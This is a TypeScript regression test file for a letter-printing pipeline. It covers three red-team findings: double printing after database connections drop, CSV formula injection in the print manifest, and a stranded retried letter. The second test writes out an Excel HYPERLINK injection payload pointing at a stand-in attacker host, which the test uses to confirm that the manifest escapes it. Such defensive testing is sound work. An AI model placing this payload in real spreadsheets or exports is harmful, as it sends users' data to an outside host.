// The issue 13 red team's findings on the floor (PRINTER=batch, /floor), each a rule now held (they failed before their fixes).
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import postgres from 'postgres'
import { printBatches, printBatchHandoffs, printBatchLetters } from '@letters/db'
import { markFailed } from '@letters/production-worker/produce-letter'
import { printsIn } from '../support/floor-processes.js'
import { startPipeline, type Pipeline } from '../support/pipeline.js'

let pipeline: Pipeline | undefined
let floorDir: string | undefined
afterEach(async () => {
  await pipeline?.close()
  pipeline = undefined
  if (floorDir) await rm(floorDir, { recursive: true, force: true })
})

/** Terminates every client backend of the pipeline's database but this one: a failover, a pooler restart. */
async function terminateBackends(databaseUrl: string): Promise<number> {
  const admin = postgres(databaseUrl, { max: 1, onnotice: () => {} })
  try {
    const [row] = await admin<Array<{ n: number }>>`SELECT count(pg_terminate_backend(pid))::int AS n FROM pg_stat_activity
      WHERE datname = current_database() AND pid <> pg_backend_pid() AND backend_type = 'client backend'`
    return row?.n ?? 0
  } finally {
    await admin.end()
  }
}

describe('finding 1: a batch closer whose connection drops while the printer has a file printed it twice', () => {
  it('prints each of the three files once when every backend is terminated while the envelopes are at the printer', { timeout: 60_000 }, async () => {
    floorDir = await mkdtemp(join(tmpdir(), 'letters-rt-closer-'))
    const log = join(floorDir, 'prints.log')
    // Envelopes take the printer 4 s: the connections drop in the middle. The closer's next round
    // comes 0.4 s after a failed one (BATCH_MAX_WAIT_MS / 10, doubled): before the fix it found the
    // lock free and the envelopes unrecorded (their record's row went with the connection) and
    // printed them again while the first print was still going.
    pipeline = await startPipeline('rtcloser', {
      env: {
        PRINTER: 'batch',
        BATCH_MAX_LETTERS: '3',
        BATCH_MAX_WAIT_MS: '2000',
        PRINT_COMMAND: `case {file} in *.envelopes.pdf) sleep 4;; esac; echo {file} >> '${log}'`,
      },
    })
    const db = pipeline.app.db
    await Promise.all([0, 1, 2].map((n) => pipeline!.send({ name: `Cliente ${n}` })))
    await expect.poll(async () => (await db.select().from(printBatchHandoffs)).length, { timeout: 40_000, interval: 20 }).toBe(1)
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(await terminateBackends(pipeline.config.databaseUrl)).toBeGreaterThan(0)

    await expect
      .poll(
        async () =>
          (
            await db
              .select({ status: printBatches.status })
              .from(printBatches)
              .catch(() => [])
          ).map((b) => b.status),
        { timeout: 30_000, interval: 100 },
      )
      .toEqual(['handed'])
    const prints = await printsIn(log)
    expect([...prints.values()], JSON.stringify([...prints])).toEqual([1, 1, 1])
    expect(await db.select().from(printBatchHandoffs)).toHaveLength(3)
  })
})

describe('finding 2: a recipient name starting with = was a formula in the manifest the floor opens in Excel', () => {
  it('writes client text that Excel would run (= + - @) with a leading apostrophe, and nothing else changed', { timeout: 60_000 }, async () => {
    pipeline = await startPipeline('rtmanifest', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '3', BATCH_MAX_WAIT_MS: '60000' } })
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Pulsa aquí")'
    const names = [formula, '@sum(1+1)', 'Lucía']
    await Promise.all(names.map((name, n) => pipeline!.send({ name, surname: n === 2 ? '+34 600' : 'García' })))
    const db = pipeline.app.db
    await expect
      .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 40_000, interval: 100 })
      .toEqual(['handed'])
    const [batch] = await db.select({ id: printBatches.id }).from(printBatches).where(eq(printBatches.status, 'handed'))
    const csv = await readFile(join(pipeline.spoolDir, `batch-${batch!.id}.manifest.csv`))
    const rows = parse<Record<string, string>>(csv, { bom: true, columns: true })
    expect(rows.map((row) => row.name).sort()).toEqual([`'${formula} García`, "'@sum(1+1) García", 'Lucía +34 600'].sort())
    for (const row of rows) for (const column of ['name', 'zip', 'city', 'province', 'country']) expect(row[column]).not.toMatch(/^[=+\-@\t\r]/)
  })
})

describe('finding 3: an ops retry of a failed letter waiting in a tray stranded it in ready_for_print, cancellable, though its batch printed it', () => {
  it('leaves the batched letter to its batch: not cancellable, and printed when the batch is handed over', { timeout: 60_000 }, async () => {
    pipeline = await startPipeline('rtretry', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '2', BATCH_MAX_WAIT_MS: '60000' } })
    const db = pipeline.app.db
    const first = await pipeline.send({ name: 'Primera' })
    await expect.poll(async () => (await db.select().from(printBatchLetters).where(eq(printBatchLetters.letterId, first))).length, { timeout: 30_000 }).toBe(1)
    // Its job given up on while it waits in the tray (a worker killed too often: markFailed with any claim).
    expect(await markFailed(db, first, 3, 'any')).toBe(true)
    const retried = await pipeline.admin('POST', `/admin/cards/${first}/retry`)
    expect(retried.statusCode, retried.body).toBe(200)
    // Its card is in the batch: the client can no longer cancel it (and get its credits back).
    const cancel = await pipeline.client('DELETE', `/cards/${first}`)
    expect(cancel.statusCode, cancel.body).toBe(409)
    await pipeline.send({ name: 'Segunda' })
    await expect
      .poll(async () => (await db.select({ status: printBatches.status }).from(printBatches)).map((b) => b.status), { timeout: 30_000, interval: 100 })
      .toEqual(['handed'])
    await expect.poll(async () => (await pipeline!.card(first)).status, { timeout: 10_000 }).toBe('printed')
  })
})
